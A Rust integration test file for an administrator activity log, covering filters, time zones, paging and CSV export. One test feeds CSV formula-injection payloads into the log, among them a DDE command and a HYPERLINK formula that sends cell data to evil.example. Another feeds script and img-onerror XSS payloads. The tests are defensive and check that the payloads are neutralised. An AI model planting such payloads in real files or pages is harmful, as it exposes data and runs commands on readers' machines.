//! The activity log as administrators read it: filtered by account, kind and day, paged, and taken away as a file.

use chrono::TimeDelta;

use crate::support::browser::{Browser, Page};
use crate::support::codes::Reading;
use crate::support::seed::{self, Size};
use crate::support::test_app::{Deeds, TestApp};

async fn grace(app: &TestApp) -> Browser {
    app.administrator("grace").await;
    let browser = app.browser();
    browser.log_in("grace").await;
    browser
}

/// Writes a line into the log behind the program's back: what others' stories will write.
fn line(app: &TestApp, kind: &str, whom: &str, by: &str, reason: &str) {
    let (at, quoted) = (app.now(), reason.replace('\'', "''"));
    let id = postern::domain::ids::Id::<()>::new(at, &rand::random());
    let account = |name: &str| format!("(SELECT id FROM accounts WHERE username_key = '{name}')");
    let (actor, administrator) = match by {
        "operator" | "owner" | "mailbox" | "postern" => (by, "NULL".to_owned()),
        name => ("administrator", account(name)),
    };
    app.database.execute(&format!(
        "INSERT INTO security_events (id, at, kind, actor, administrator_id, account_id, reason, network, browser) \
         VALUES ('{id}', {}, '{kind}', '{actor}', {administrator}, {}, '{quoted}', '192.0.2.7', 'Firefox on Windows')",
        at.timestamp_micros(),
        account(whom),
    ));
}

fn lines(page: &Page) -> Vec<String> {
    page.all("tbody tr")
}

async fn shown(browser: &Browser, query: &str) -> Vec<String> {
    lines(&browser.get(&format!("/admin/activity?{query}")).await.expect(200))
}

/// The fields of each row of an export, the heads of the columns first.
fn rows(file: &Page) -> Vec<Vec<String>> {
    let text = file.html();
    assert!(text.ends_with("\"\r\n"));
    let (mut rows, mut row, mut field) = (Vec::new(), Vec::new(), String::new());
    let (mut is_quoted, mut letters) = (false, text.chars().peekable());
    while let Some(letter) = letters.next() {
        match letter {
            '"' if is_quoted && letters.next_if_eq(&'"').is_some() => field.push('"'),
            '"' => is_quoted = !is_quoted,
            ',' if !is_quoted => row.push(std::mem::take(&mut field)),
            '\r' if !is_quoted => {
                assert_eq!(letters.next(), Some('\n'));
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            other => {
                assert!(is_quoted, "{other} outside of quotes");
                field.push(other);
            }
        }
    }
    rows
}

#[actix_web::test]
async fn each_line_says_who_did_what_to_whom_when_and_from_where() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    app.person("ada").await;
    app.wait(TimeDelta::minutes(5));
    line(&app, "disabled", "ada", "grace", "Left the company");
    app.wait(TimeDelta::minutes(1));
    line(&app, "unlocked", "ada", "operator", "");
    app.wait(TimeDelta::minutes(1));
    line(&app, "codes_paused", "ada", "postern", "");

    let page = browser.get("/admin/activity").await.expect(200);

    assert_eq!((page.h1(), page.title()), ("Activity".into(), "Activity – Postern".into()));
    let lines = lines(&page);
    assert!(lines[0].starts_with("Codes paused after wrong codes"), "{lines:#?}");
    assert!(lines[0].contains("ada Postern"), "{lines:#?}");
    assert!(lines[1].contains("ada An operator"), "{lines:#?}");
    assert_eq!(
        lines[2],
        "Account disabled Reason: Left the company ada grace Firefox on Windows 192.0.2.7 Today, 3:47 pm"
    );
    page.says("Times are UTC.");
    // Both names lead to their accounts.
    let paths = page.attributes("tbody tr:nth-child(3) a", "href");
    assert_eq!(paths.len(), 2);
    assert!(paths.iter().all(|path| path.starts_with("/admin/accounts/")) && paths[0] != paths[1]);
}

#[actix_web::test]
async fn an_address_stands_there_as_people_write_it() {
    let app = TestApp::start().await;
    let page = grace(&app).await.get("/admin/activity").await;
    page.says("127.0.0.1").is_silent_about("127.0.0.1/32");
}

#[actix_web::test]
async fn it_is_filtered_by_account_kind_and_day_alone_and_together() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    app.person("ada").await;
    app.person("bob").await;
    for (kind, whom) in [("disabled", "ada"), ("enabled", "ada"), ("disabled", "bob")] {
        app.wait(TimeDelta::minutes(1));
        line(&app, kind, whom, "grace", "so");
    }
    app.wait(TimeDelta::minutes(2));
    let form = || async { browser.get("/admin/activity").await.form("Show") };

    let page = form().await.fill("account", " ADA ").submit().await.expect(200);
    assert!(lines(&page).iter().all(|line| line.contains(" ada ")), "{:#?}", lines(&page));
    assert_eq!(page.form("Show").value("account").as_deref(), Some("ADA"));
    let page = form().await.fill("account", "ada").select("kind", "disabled").submit().await;
    assert_eq!(lines(&page).len(), 1);
    let page = form().await.select("kind", "disabled").submit().await;
    assert_eq!(lines(&page).len(), 2);
    assert_eq!(
        lines(&page.click("Show all activity").await).len(),
        lines(&browser.get("/admin/activity").await).len()
    );
    let page = form().await.select("kind", "demoted").submit().await.expect(200);
    page.says("Nothing like that happened.");
    // Days are whole, the last one with all its hours.
    assert_eq!(shown(&browser, "kind=disabled&from=2026-11-24&to=2026-11-24").await.len(), 2);
    assert_eq!(shown(&browser, "kind=disabled&from=2026-11-25").await.len(), 0);
    assert_eq!(shown(&browser, "kind=disabled&to=2026-11-23").await.len(), 0);
}

#[actix_web::test]
async fn a_day_is_the_administrators_own() {
    let app = TestApp::start().await;
    app.administrator("grace").await;
    app.person("ada").await;
    // 11:30 in the evening of the 24th in Toronto, and 4:30 in the morning of the 25th by UTC.
    app.wait(TimeDelta::minutes(12 * 60 + 48));
    line(&app, "disabled", "ada", "operator", "");
    let browser = app.browser();
    browser.log_in("grace").await;
    assert_eq!(shown(&browser, "kind=disabled&from=2026-11-25&to=2026-11-25").await.len(), 1);
    let form = browser.get("/profile").await.form("Save").select("time_zone", "America/Toronto");
    form.submit().await.expect(303);
    assert!(shown(&browser, "kind=disabled&from=2026-11-25&to=2026-11-25").await.is_empty());
    assert_eq!(shown(&browser, "kind=disabled&from=2026-11-24&to=2026-11-24").await.len(), 1);
    let page = browser.get("/admin/activity?kind=disabled").await;
    page.says("11:30 pm").says("Times are Eastern Time – Toronto.");
}

#[actix_web::test]
async fn what_was_typed_wrongly_is_said_at_its_field() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    for (field, typed, says) in [
        ("account", "nobody", "There is no account with this username"),
        ("account", "<b>", "There is no account with this username"),
        ("from", "24.11.2026", "Enter a day like 2026-11-24"),
        ("to", "2026-02-30", "Enter a day like 2026-11-24"),
    ] {
        let form = browser.get("/admin/activity").await.form("Show").fill(field, typed);
        let page = form.submit().await.expect(422);
        assert_eq!((page.errors(), page.field_error(field)), (vec![says.to_owned()], Some(says.to_owned())));
        assert_eq!(page.form("Show").value(field).as_deref(), Some(typed));
        assert!(lines(&page).is_empty() && page.attributes("a[download]", "href").is_empty());
    }
    let page = browser.get("/admin/activity?from=2026-11-24&to=2026-11-23").await.expect(422);
    assert_eq!(page.field_error("to").as_deref(), Some("Enter a day that is not before the first"));
    for query in [
        "kind=x",
        "before=x",
        "after=",
        "page=2",
        "account=a&account=b",
        "account=%00",
        "kind",
        "kind[]=disabled",
        "before=01936b2c-0000-7000-8000-000000000001&after=01936b2c-0000-7000-8000-000000000001",
    ] {
        assert_eq!(browser.get(&format!("/admin/activity?{query}")).await.status(), 400, "{query}");
        assert_eq!(browser.get(&format!("/admin/activity.csv?{query}")).await.status(), 400, "{query}");
    }
    browser.get("/admin/activity.csv?account=nobody").await.expect(400);
    // A line that is nowhere is a place all the same.
    browser.get("/admin/activity?before=01936b2c-0000-7000-8000-000000000001").await.expect(200);
    browser.get("/admin/activity?after=01936b2c-0000-7000-8000-000000000001").await.expect(200);
}

#[actix_web::test]
async fn older_and_newer_pages_keep_their_lines_while_new_ones_come() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    app.person("ada").await;
    for n in 0..120 {
        app.wait(TimeDelta::seconds(1));
        line(&app, "disabled", "ada", "operator", &format!("number {n}."));
    }
    let number = |line: &String| {
        line.split("number ").nth(1).unwrap().split('.').next().unwrap().parse::<u32>().unwrap()
    };
    let numbers = |page: &Page| lines(page).iter().map(number).collect::<Vec<_>>();
    let first = browser.get("/admin/activity?kind=disabled&account=ada").await;
    assert_eq!(numbers(&first), (70..120).rev().collect::<Vec<_>>());
    assert!(first.attributes("a[rel=prev]", "href").is_empty());
    app.wait(TimeDelta::seconds(1));
    line(&app, "disabled", "ada", "operator", "number 120.");

    let second = first.click("Older").await.expect(200);
    assert_eq!(numbers(&second), (20..70).rev().collect::<Vec<_>>());
    let third = second.click("Older").await.expect(200);
    assert_eq!(numbers(&third), (0..20).rev().collect::<Vec<_>>());
    assert!(third.attributes("a[rel=next]", "href").is_empty());
    let back = third.click("Newer").await.expect(200);
    assert_eq!(numbers(&back), numbers(&second));
    // What came in between is one page further.
    let newer = back.click("Newer").await.expect(200);
    assert_eq!(numbers(&newer), numbers(&first));
    // The newest page begins with the newest line, and is full.
    let newest = newer.click("Newer").await.expect(200);
    assert_eq!(lines(&newest).len(), 50);
    assert_eq!(numbers(&newest).first(), Some(&120));
    assert!(newest.attributes("a[rel=prev]", "href").is_empty());
}

#[actix_web::test]
async fn the_export_is_a_table_of_the_same_lines() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    app.person("ada").await;
    app.wait(TimeDelta::minutes(1));
    line(&app, "disabled", "ada", "grace", "Said \"no\", twice\r\nand Zoë left");
    line(&app, "enabled", "ada", "operator", "");

    let file = browser.get("/admin/activity?kind=disabled").await.click("Download as CSV").await.expect(200);

    assert_eq!(file.path(), "/admin/activity.csv?kind=disabled");
    assert_eq!(file.header("content-type"), Some("text/csv; charset=utf-8; header=present"));
    assert_eq!(file.header("content-disposition"), Some("attachment; filename=\"activity.csv\""));
    assert_eq!(file.header("cache-control"), Some("no-store"));
    let rows = rows(&file);
    let heads = [
        "time",
        "kind",
        "account",
        "actor",
        "administrator",
        "reason",
        "detail",
        "network",
        "browser",
        "request_id",
    ];
    assert_eq!(rows[0], heads);
    assert_eq!(
        rows[1..],
        [[
            "2026-11-24T15:43:00Z",
            "disabled",
            "ada",
            "administrator",
            "grace",
            "Said \"no\", twice\r\nand Zoë left",
            "",
            "192.0.2.7",
            "Firefox on Windows",
            "",
        ]]
    );
}

#[actix_web::test]
async fn no_field_of_the_export_is_a_formula() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    app.person("ada").await;
    for payload in [
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1+1",
        "\r=1+1",
        "=cmd|'/C calc'!A0",
        "\",=1+1",
        "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
    ] {
        app.wait(TimeDelta::seconds(1));
        line(&app, "disabled", "ada", "grace", payload);
    }
    let file = browser.get("/admin/activity.csv").await.expect(200);
    for field in rows(&file).iter().flatten() {
        assert!(!field.starts_with(['=', '+', '-', '@', '\t', '\r']), "{field}");
    }
    assert!(rows(&file).iter().any(|row| row[5] == "'=1+1"));
}

#[actix_web::test]
async fn the_export_goes_to_the_end_of_the_log() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    let mut conn = app.database.location().connect().unwrap();
    seed::fill(&mut conn, Size { accounts: 20, events: 2_345, browsers: 0 }, app.now(), "$argon2id$");
    drop(conn);
    let file = browser.get("/admin/activity.csv?to=2026-11-23").await.expect(200);
    let rows = rows(&file);
    let times: Vec<_> = rows[1..].iter().map(|row| row[0].clone()).collect();
    assert!(times.len() > 2_300, "{}", times.len());
    assert!(times.is_sorted_by(|newer, older| newer >= older));
    assert_eq!(browser.raw("HEAD", "/admin/activity.csv", &[], b"").await.expect(200).bytes(), b"");
    assert_eq!(rows_of(&browser, "/admin/activity.csv?kind=logged_in&from=2027-01-01").await, 1);
}

async fn rows_of(browser: &Browser, path: &str) -> usize {
    rows(&browser.get(path).await.expect(200)).len()
}

#[actix_web::test]
async fn reasons_and_names_are_text_whatever_is_in_them() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    app.person("ada").await;
    let hostile = "<script>alert(1)</script> \"><img src=x onerror=alert(1)>";
    line(&app, "disabled", "ada", "grace", hostile);
    let page = browser.get("/admin/activity").await.expect(200);
    assert!(page.text().contains(hostile));
    assert!(page.all("main img").is_empty() && page.all("script").len() == 1);
}

#[actix_web::test]
async fn whoever_confirms_on_the_way_to_the_file_comes_to_its_page() {
    let app = TestApp::start().await;
    let browser = grace(&app).await;
    app.wait(TimeDelta::minutes(20));
    let page = browser.follow_all("/admin/activity.csv").await;
    assert_eq!(page.path(), "/confirm");
    let form = page.form("Continue").fill("password", crate::support::test_app::PASSWORD);
    assert_eq!(form.submit().await.follow_all().await.path(), "/admin/activity");
}
